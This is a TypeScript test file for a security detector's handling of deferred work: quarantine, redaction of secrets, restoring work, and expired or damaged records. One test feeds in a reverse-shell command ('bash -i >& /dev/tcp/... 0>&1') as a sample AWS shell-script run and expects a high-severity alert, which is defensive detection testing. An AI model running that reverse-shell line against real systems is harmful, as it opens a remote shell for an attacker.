import { redactAlert } from '../../../shared/command/redact-alert'
import type { Finding } from '../../../shared/model/finding'
import type { NativeCommand } from '../../../shared/model/normalized'
import { DAY, HOUR, MINUTE } from '../../../shared/model/time'
import { amendSoon } from '../../../shared/pipeline/amend-activity'
import { DEFERRED_WORK, taskOf } from '../../../shared/pipeline/deferred-work'
import type { Quarantined } from '../../../shared/contracts/quarantined'
import { processActivity } from '../../../shared/pipeline/process-activity'
import { processNative } from '../../../shared/pipeline/process-native'
import { holdForSummary } from '../../../shared/pipeline/rate-limit'
import { restoreWork } from '../../../shared/pipeline/restore-work'
import { sampleAlert } from '../../../shared/pipeline/sample-alert'
import { Impossible } from '../../../shared/pipeline/impossible-work'
import { sweep } from '../../../shared/pipeline/sweep'
import { Unreadable } from '../../../shared/state/codec'
import { ACTIVITY, CALL } from '../../../shared/state/kinds'
import { memoryStore } from '../../../shared/state/memory-store'
import { JUDGE, RESEND } from '../../../shared/state/works'
import { textState } from '../../../shared/state/text-store'
import { agentProcess, awsActivity, NOON } from '../../support/activity'
import { testClock } from '../../support/clock'
import { testDetector, type TestDetector } from '../../support/detector'
import { memoryTexts, type MemoryTexts } from '../../support/memory-texts'

interface Watched {
  readonly texts: MemoryTexts
  readonly detector: TestDetector
  readonly quarantined: Quarantined[]
  readonly notices: string[]
}

/** A detector whose deferred work lies in a store of texts, and what it quarantined and reported. */
const watched = (): Watched => {
  const quarantined: Quarantined[] = []
  const notices: string[] = []
  const texts = memoryTexts()
  const clock = testClock()
  const detector = testDetector(
    {},
    {
      state: textState(texts, clock.now),
      clock,
      quarantine: { put: async (entry) => void quarantined.push(entry) },
      health: { notice: async (title, detail) => void notices.push(`${title}: ${detail}`) },
    },
  )
  return { texts, detector: { ...detector, clock }, quarantined, notices }
}

/** What a broken or a future version may have left under each kind of key, and something of no kind. */
const POISON: readonly (readonly [string, string])[] = [
  ['judge/x', '{"not":"an activity"}'],
  ['judge/y', 'no json'],
  ['amend/x/y', '{}'],
  ['text/x', '{"since":0}'],
  ['digest/5', 'no json'],
  ['resend/test/x/y', '{"alert":null,"since":0}'],
  ['future/x', '{"kind":"unheard of"}'],
  ['no-slash', ''],
]

describe('deferred work that can never be done', () => {
  it.each(POISON)('%s is given up in the first sweep, and the next piece is done', async (key, value) => {
    const { texts, detector, quarantined, notices } = watched()
    texts.deferOld(key, value, 0)
    texts.deferOld('judge/good', JSON.stringify(awsActivity()), 0)
    detector.clock.time = NOON
    expect(await sweep(detector)).toBe(2)
    expect(texts.deferred.size).toBe(0)
    expect(quarantined).toMatchObject([{ format: 'deferred', body: { key }, at: NOON }])
    expect(notices).toEqual([expect.stringContaining(key)])
    expect(detector.alerts).toHaveLength(1)
  })

  it('is at most some pieces of a sweep, named one by one in one notice', async () => {
    const { texts, detector, quarantined, notices } = watched()
    for (let place = 0; place < 12; place++) texts.deferOld(`judge/${place}`, 'no json', 0)
    await sweep(detector)
    expect(quarantined).toHaveLength(12)
    expect(notices).toEqual([expect.stringMatching(/^Deferred work given up: .*and 7 more\. It is in quarantine/)])
  })
})

describe('deferred work of an older version', () => {
  it.each(['process', 'clientId', 'rates', 'item', 'omitted', 'document', 'origin', 'actor'] as const)(
    'whose activity lacks the member %s is done or quarantined',
    async (member) => {
      const { texts, detector, quarantined } = watched()
      const { [member]: _, ...old } = awsActivity()
      texts.deferOld('judge/00000000-0000-0000-0000-000000000001', JSON.stringify(old), 0)
      detector.clock.time = NOON
      await sweep(detector)
      expect(texts.deferred.size).toBe(0)
      expect(detector.alerts.length + quarantined.length).toBe(1)
      expect(quarantined.map(({ reason }) => reason)).toEqual([
        expect.stringMatching(new RegExp(`^deferred work given up: Unreadable: got nothing, expected .* at ${member}`)),
      ])
    },
  )

  it('keeps members that a later version added', async () => {
    const { texts, detector } = watched()
    texts.deferOld('judge/x', JSON.stringify({ ...awsActivity(), later: { made: 'up' } }), 0)
    await sweep(detector)
    expect(detector.alerts).toHaveLength(1)
    expect([...texts.items.values()].some(({ value }) => value.includes('"later":{"made":"up"}'))).toBe(true)
  })
})

describe('given-up work in quarantine', () => {
  const SECRET = 'mysql --password=correct-horse-battery'

  it('holds no secrets, wherever in the body they stood', async () => {
    const { texts, detector, quarantined } = watched()
    const process = { ...agentProcess().process, commandLine: SECRET, parents: [SECRET] }
    texts.deferOld('judge/x', JSON.stringify({ ...awsActivity(), process, actor: null, payload: SECRET }), 0)
    texts.deferOld('judge/y', SECRET, 0)
    await sweep(detector)
    expect(quarantined).toHaveLength(2)
    expect(JSON.stringify(quarantined)).not.toContain('correct-horse')
    expect(JSON.stringify(quarantined)).toContain('--password=[redacted]')
  })

  it.each([
    ['a text where an object should be', { ...awsActivity(), document: SECRET }],
    ['a text where a time should be', { ...awsActivity(), at: SECRET }],
    ['a text where a known word should be', { ...awsActivity(), outcome: SECRET }],
  ])('is explained without quoting it: %s', async (_what, body) => {
    const { texts, detector, quarantined, notices } = watched()
    texts.deferOld('judge/x', JSON.stringify(body), 0)
    await sweep(detector)
    expect(quarantined.map(({ reason }) => reason)).toEqual([expect.stringContaining('Unreadable: got a string')])
    expect(JSON.stringify([quarantined, notices])).not.toContain('correct-horse')
  })

  it('is explained in a few words, without secrets that a service quoted', async () => {
    const { detector, quarantined, notices } = watched()
    const sinks = [{ name: 'test', send: async () => Promise.reject(new Impossible(`${SECRET} ${'x'.repeat(5_000)}`)) }]
    await detector.ports.state.defer(
      RESEND,
      'test/x/y',
      { since: 0, alert: redactAlert(sampleAlert(NOON, 'alert')) },
      0,
    )
    await sweep({ ...detector, ports: { ...detector.ports, sinks } })
    expect(JSON.stringify([quarantined[0]?.reason, notices])).not.toContain('correct-horse')
    expect(quarantined[0]?.reason.length).toBeLessThan(600)
  })

  it('carries what was judged of its activity', async () => {
    const { texts, detector, quarantined } = watched()
    const activity = awsActivity()
    await processActivity(detector, activity, 'first')
    const alert = { ...sampleAlert(NOON, 'alert'), activities: [activity.id] }
    texts.deferOld('resend/gone/x/y', JSON.stringify({ since: 0, alert }), 0)
    await sweep(detector)
    expect(quarantined).toMatchObject([
      {
        reason: expect.stringContaining('was for a sink that is gone'),
        verdict: { severity: 'medium', risk: 47, rules: expect.arrayContaining(['runwarden.cloud.first-seen-caller']) },
      },
    ])
  })
})

describe('given-up work from quarantine', () => {
  const activity = awsActivity()
  const alert = { ...sampleAlert(NOON, 'alert'), activities: [activity.id] }
  const parsed = (text: string): unknown => (text.startsWith('{') ? JSON.parse(text) : text)
  const BODIES: readonly (readonly [string, string])[] = [
    [`judge/${activity.id}`, JSON.stringify(activity)],
    [`text/${activity.id}`, JSON.stringify({ activity, since: NOON })],
    ['native/c1', 'c1'],
    ['digest/492346', JSON.stringify(alert)],
    ['resend/test/x/y', JSON.stringify({ since: 0, alert })],
  ]

  it.each(BODIES)('%s is done by the next sweep, once', async (key, body) => {
    const { texts, detector, quarantined } = watched()
    const sinks = { ...detector, ports: { ...detector.ports, sinks: [] } }
    detector.clock.time = NOON
    texts.deferOld(key, body, 0)
    // Whatever it is, it is given up here.
    const task = { ...taskOf(key)!, run: async () => Promise.reject(new Impossible('not now')) }
    await sweep(sinks, { tasks: [task] })
    expect([texts.deferred.size, quarantined.length]).toEqual([0, 1])
    for (let times = 0; times < 2; times++) await restoreWork(detector.ports, quarantined[0]!.body)
    expect([...texts.deferred.values()]).toMatchObject([{ key, since: NOON, tries: 0, dueAt: NOON }])
    expect(parsed(texts.deferred.get(key)?.value ?? '')).toEqual(parsed(body))
    expect(await sweep(detector)).toBe(1)
    expect(texts.deferred.size).toBe(0)
  })

  it('gives way to work that was deferred under its key since', async () => {
    for (const state of [memoryStore(() => NOON), textState(memoryTexts(), () => NOON)]) {
      const ports = { state, clock: testClock(NOON) }
      await state.defer(JUDGE, activity.id, { ...activity, errorCode: 'newer' }, NOON + HOUR)
      await restoreWork(ports, { key: `judge/${activity.id}`, since: 0, tries: 300, value: activity })
      expect(await state.due(NOON, 10)).toEqual([])
      expect((await state.due(NOON + HOUR, 10)).map((work) => work.open(JUDGE).errorCode)).toEqual(['newer'])
    }
  })

  it.each([
    ['nothing', null],
    ['work without a key', { value: {} }],
    ['work of no known kind', { key: 'future/x', since: 0, tries: 0, value: {} }],
    ['a body that cannot be read', { key: 'judge/x', since: 0, tries: 0, value: { not: 'an activity' } }],
  ])('is refused when it is %s', async (_what, body) => {
    const { texts, detector } = watched()
    await expect(restoreWork(detector.ports, body)).rejects.toThrow(Unreadable)
    expect(texts.deferred.size).toBe(0)
  })
})

const [finding] = sampleAlert(NOON, 'alert').findings as readonly [Finding]

const NATIVE_EVENT: NativeCommand = {
  id: 'n1',
  commandId: 'c1',
  at: NOON,
  account: '123456789012',
  region: 'eu-west-1',
  document: 'AWS-RunShellScript',
  text: 'date',
  instances: ['i-1'],
}

describe('given-up work whose basis has expired since', () => {
  const expired = (texts: MemoryTexts): void => {
    texts.items.clear()
    texts.sets.clear()
  }
  const failing = (key: string) => ({ ...taskOf(key)!, run: async () => Promise.reject(new Impossible('not now')) })

  it('still judges a command that only native events know', async () => {
    const { texts, detector, quarantined } = watched()
    detector.clock.time = NOON
    const text = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
    const native = { id: 'n1', commandId: 'c1', at: NOON, account: '123456789012', region: 'eu-west-1' }
    await processNative(detector, { ...native, document: 'AWS-RunShellScript', text, instances: ['i-1'] })
    detector.clock.time += HOUR
    await sweep(detector, { tasks: [failing('native/c1')] })
    expired(texts)
    await restoreWork(detector.ports, quarantined[0]!.body)
    await sweep(detector)
    expect(detector.alerts.map(({ severity }) => severity)).toEqual(['high'])
  })

  it('still names every alert of the hour', async () => {
    const { texts, detector, quarantined } = watched()
    await holdForSummary(detector, { ...sampleAlert(NOON, 'alert'), id: '1'.repeat(32), activities: ['a1'] })
    await holdForSummary(detector, { ...sampleAlert(NOON, 'alert'), id: '2'.repeat(32), activities: ['a2'] })
    detector.clock.time += 2 * HOUR
    await sweep(detector, { tasks: [failing('digest/0')] })
    expired(texts)
    await restoreWork(detector.ports, quarantined[0]!.body)
    await sweep(detector)
    expect(detector.alerts).toMatchObject([{ kind: 'digest', repeats: 2, activities: ['a1', 'a2'] }])
  })
})

describe('work whose basis is gone or damaged', () => {
  it.each([
    ['native/c1', 'c1', []],
    ['native/c1', 'c1', [['native/d0f631ca1ddba8db', '{"text":null}']]],
    ['digest/5', JSON.stringify(sampleAlert(NOON, 'alert')), []],
  ])('is never silently done: %s', async (key, body, items) => {
    const { texts, detector, quarantined } = watched()
    for (const [item, value] of items)
      await texts.write(item!, { value: value!, schema: 0 }, null, Number.MAX_SAFE_INTEGER)
    texts.deferOld(key, body, 0)
    await sweep(detector)
    expect(quarantined).toMatchObject([
      { reason: expect.stringMatching(/are gone, or cannot be read$/), body: { key } },
    ])
  })

  it('is given up when its activity was never judged, whatever the store takes to answer', async () => {
    const { texts, detector, quarantined } = watched()
    const { state } = detector.ports
    const read: typeof state.read = (kind, ids) => {
      detector.clock.time++
      return state.read(kind, ids)
    }
    const slow = { ...detector, ports: { ...detector.ports, state: { ...state, read } } }
    await amendSoon(slow, 'never', finding)
    for (let round = 0; round < 400; round++, detector.clock.time += 5 * MINUTE) await sweep(slow)
    expect(texts.deferred.size).toBe(0)
    expect(quarantined).toMatchObject([{ body: { key: `amend/never/${finding.rule}` } }])
  })

  it('does not stop an activity that has a finding about it, or an event of its command', async () => {
    const { texts, detector, quarantined } = watched()
    detector.clock.time = NOON
    const later = Number.MAX_SAFE_INTEGER
    await texts.write(ACTIVITY.key('damaged'), { value: '{"activity":{}}', schema: 0 }, null, later)
    await texts.write(CALL.key('c1'), { value: 'damaged', schema: 0 }, null, later)
    await amendSoon(detector, 'damaged', finding)
    await processNative(detector, NATIVE_EVENT)
    detector.clock.time += HOUR
    await sweep(detector)
    expect(texts.deferred.size).toBe(0)
    const reason = expect.stringContaining('the record of activity damaged cannot be read')
    expect(quarantined).toMatchObject([
      { reason, body: { key: `amend/damaged/${finding.rule}` } },
      { reason, body: { key: 'native/c1' } },
    ])
  })
})

describe('the table of deferred work', () => {
  it('gives no kind up before a day', () => {
    expect(DEFERRED_WORK.filter(({ patienceMs }) => patienceMs < DAY)).toEqual([])
  })

  it('has work that waits for what never comes given up too', async () => {
    const { texts, detector, quarantined } = watched()
    // A call that left its mark and was never judged: its record is lost.
    await texts.write('call/d0f631ca1ddba8db', { value: 'a1', schema: 0 }, null, Number.MAX_SAFE_INTEGER)
    texts.deferOld('native/c1', 'c1', 0)
    for (; detector.clock.time < 2 * DAY; detector.clock.time += 5 * MINUTE) await sweep(detector)
    expect(texts.deferred.size).toBe(0)
    expect(quarantined).toMatchObject([{ body: { key: 'native/c1', value: 'c1' } }])
  })
})
